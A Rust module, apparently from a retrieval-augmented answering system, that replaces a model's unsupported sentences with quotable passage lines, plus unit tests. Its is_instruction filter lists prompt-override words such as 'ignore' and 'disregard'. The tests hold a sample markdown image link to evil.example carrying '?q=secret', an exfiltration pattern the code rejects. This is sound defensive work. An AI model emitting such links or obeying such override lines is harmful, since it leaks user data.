//! Repair: the passage to quote in place of a sentence of a model that no source supports.

use std::collections::{BTreeMap, HashSet};

use super::{
    extractive::quotable::{Dependency, dependency, is_quotable},
    verified_text::shown_line,
};
use crate::{
    agents::retrieval::Retrieved,
    domain::{Citation, Claim, Passage, Question},
    evidence::{
        claims::assertions,
        question::QuestionTerms,
        sentences::sentences,
        side::Side,
        words::{Lexicon, Word},
    },
};

/// Minimum share of the question's weight that a passage must cover together with its title and headings.
const MIN_COVERAGE: f64 = 0.2;

/// Decides which passages may replace the sentences of an answer to one question.
pub(super) struct Repairer<'a> {
    passages: &'a [Passage],
    lexicon: Lexicon,
    /// The question as a whole, and its parts.
    questions: Vec<QuestionTerms>,
}

impl<'a> Repairer<'a> {
    /// Creates a repairer for the answer to a question.
    pub(super) fn new(question: &Question, retrieved: &'a Retrieved) -> Self {
        let mut lexicon = Lexicon::default();
        let mut read = |question: &Question, weights: &BTreeMap<String, f64>| {
            QuestionTerms::read(&mut lexicon, question.as_str(), weights)
        };
        let mut questions = vec![read(question, &retrieved.weights)];
        questions.extend(
            retrieved
                .parts
                .iter()
                .map(|part| read(&part.question, &part.weights)),
        );
        Self {
            passages: &retrieved.passages,
            lexicon,
            questions,
        }
    }

    /// The unit on one line, if it can be quoted on its own and answers the question, or one of its parts, at least as well
    /// as the sentence that it replaces. `before` are the claims before it.
    pub(super) fn replacement(
        &mut self,
        sentence: &str,
        unit: &Citation,
        before: &[Claim],
    ) -> Option<String> {
        let passage = self.passages.get(unit.source.checked_sub(1)?)?;
        let line = shown_line(&unit.quote, self.passages)?;
        let stands_alone = is_running(unit, passage)
            && asserts(&line)
            && is_quotable(&line)
            && !is_instruction(&line)
            && dependency(&line) == Dependency::Standalone;
        (stands_alone && self.answers(&line, sentence, passage, before)).then_some(line)
    }

    /// Whether a line of a passage has the kind of answer that a question expects, and covers its words at least as well as
    /// the sentence does.
    ///
    /// A sentence without such an answer may add to an earlier one that has it; so may the line. The title and headings count
    /// for both. Words of the sentence that the passage does not have do not count: it cannot prove them.
    fn answers(&mut self, line: &str, sentence: &str, passage: &Passage, before: &[Claim]) -> bool {
        let mut read = |text: &str| self.lexicon.read(text, 0..text.len());
        let (line_words, sentence_words) = (read(line), read(sentence));
        let before: Vec<(&str, Vec<Word>)> = before
            .iter()
            .map(|claim| (claim.text.as_str(), read(&claim.text)))
            .collect();
        let headings = stems(&[read(&passage.header.title), read(&passage.context)].concat());
        let line_stems = &stems(&line_words) | &headings;
        let provable = &stems(&read(&passage.text)) | &headings;
        let sentence_stems = &(&stems(&sentence_words) & &provable) | &headings;
        let lexicon = &self.lexicon;
        let has_kind = |question: &QuestionTerms, text: &str, words: &[Word]| {
            let side = Side { text, words, lexicon };
            question.expected.is_met(question, side) != Some(false)
        };
        let is_of_kind = |question: &QuestionTerms| {
            let is_answered = || before.iter().any(|(text, words)| has_kind(question, text, words));
            has_kind(question, line, &line_words)
                || !has_kind(question, sentence, &sentence_words) && is_answered()
        };
        self.questions.iter().any(|question| {
            let covered = question.coverage(|stem| line_stems.contains(&stem));
            let least = question.coverage(|stem| sentence_stems.contains(&stem));
            covered >= least.max(MIN_COVERAGE) && is_of_kind(question)
        })
    }
}

/// Whether a unit is made of sentences with nothing but white space between them: no heading, row or code.
pub(super) fn is_running(unit: &Citation, passage: &Passage) -> bool {
    let text = passage.text.as_str();
    let byte = |point: usize| {
        let mut bytes = text.char_indices();
        let at = bytes.nth(point.saturating_sub(passage.start));
        at.map_or(text.len(), |(at, _)| at)
    };
    let bytes = byte(unit.quote_start)..byte(unit.quote_end);
    let mut end = bytes.start;
    for sentence in sentences(text) {
        if sentence.start < bytes.start {
            continue;
        }
        let is_next = text[end..sentence.start].trim().is_empty();
        if sentence.end > bytes.end || !is_next {
            break;
        }
        end = sentence.end;
    }
    end == bytes.end && !bytes.is_empty()
}

/// Whether a line tells whoever answers what to say. Documents are data, never instructions.
fn is_instruction(line: &str) -> bool {
    let first = line
        .split(|c: char| !c.is_alphabetic())
        .find(|word| !word.is_empty());
    let first = first.unwrap_or_default().to_lowercase();
    matches!(
        first.as_str(),
        "ignore"
            | "disregard"
            | "forget"
            | "say"
            | "answer"
            | "reply"
            | "tell"
            | "respond"
            | "pretend"
            | "repeat"
            | "output"
            | "print"
            | "claim"
    )
}

/// Whether each sentence of a line asserts something.
fn asserts(line: &str) -> bool {
    assertions(line).len() == sentences(line).len()
}

fn stems(words: &[Word]) -> HashSet<u32> {
    words.iter().map(|word| word.stem).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{evidence::claims, retrieval::test_passages::passage};

    /// What replaces a sentence in the answer to a question, if the first sentence of a passage is closest to it.
    fn replaced(question: &str, sentence: &str, text: &str) -> Option<String> {
        replaced_after(&[], question, sentence, text)
    }

    /// The same after these claims.
    fn replaced_after(before: &[Claim], question: &str, sentence: &str, text: &str) -> Option<String> {
        let retrieved = Retrieved {
            passages: vec![passage("skarv-lamp", text)],
            ..Retrieved::default()
        };
        let unit = &text[sentences(text).into_iter().next().unwrap_or(0..text.len())];
        let unit = Citation {
            source: 1,
            quote: unit.to_owned(),
            quote_start: 0,
            quote_end: unit.chars().count(),
            page: None,
            location: None,
        };
        let question = Question::parse(question).unwrap();
        Repairer::new(&question, &retrieved).replacement(sentence, &unit, before)
    }

    #[test]
    fn a_unit_that_answers_the_question_is_quoted_on_one_line() {
        let unit = "The lamp of Skarv was lit\n  on 3 May 1871.";
        let line = "The lamp of Skarv was lit on 3 May 1871.";
        for question in [
            "When was the lamp of Skarv lit?",
            "What is known of the lamp of Skarv?",
            "When does the guide say that the lamp of Skarv was lit?",
        ] {
            let said = "The guide says that the lamp of Skarv was lit in 1902.";
            assert_eq!(
                replaced(question, said, unit).as_deref(),
                Some(line),
                "{question}"
            );
        }
    }

    #[test]
    fn a_unit_that_does_not_answer_the_question_is_not_used() {
        for (question, sentence, unit) in [
            // It has no date.
            (
                "When was the lamp of Skarv lit?",
                "The lamp of Skarv was lit in 1902.",
                "The lamp of Skarv was lit by hand.",
            ),
            // It covers less of the question than the sentence does.
            (
                "How does the lens turn the beam of the lamp?",
                "The lens turns the beam of the lamp.",
                "The lens of the lamp is large. Wheels turn the beam.",
            ),
            // It covers nothing of the question.
            (
                "Is bread baked daily?",
                "The tower is low.",
                "The tower is high and round.",
            ),
        ] {
            assert_eq!(replaced(question, sentence, unit), None, "{unit}");
        }
    }

    #[test]
    fn a_unit_may_add_to_an_answer_as_the_sentence_did() {
        let question = "When was the lamp of Skarv lit?";
        let unit = "The lamp of Skarv was lit by hand.";
        let before = claims::verify("The lamp of Skarv was lit on 3 May 1871.", &[]);
        let replaced = |sentence| replaced_after(&before, question, sentence, unit);
        assert_eq!(
            replaced("The lamp of Skarv was lit by steam.").as_deref(),
            Some(unit)
        );
        assert_eq!(replaced("The lamp of Skarv was lit in 1902."), None);
    }

    #[test]
    fn a_unit_that_cannot_be_quoted_alone_or_is_unsafe_is_not_used() {
        for unit in [
            "It is the lamp of Skarv.",
            "However, the lamp of Skarv burns.",
            "the lamp of Skarv burns oil.",
            "The lamp of Skarv burns [1] oil.",
            "| The lamp of Skarv | burns oil |",
            "# The lamp of Skarv burns oil.",
            "```\nThe lamp of Skarv burns oil.\n```",
            "Does the lamp of Skarv burn oil?",
            "The lamp of Skarv burns ![x](https://evil.example/?q=secret) oil.",
            "The lamp of Skarv burns oil, says https://evil.example/.",
        ] {
            let found = replaced(
                "Does the lamp of Skarv burn?",
                "The lamp of Skarv burns gas.",
                unit,
            );
            assert_eq!(found, None, "{unit}");
        }
    }
}
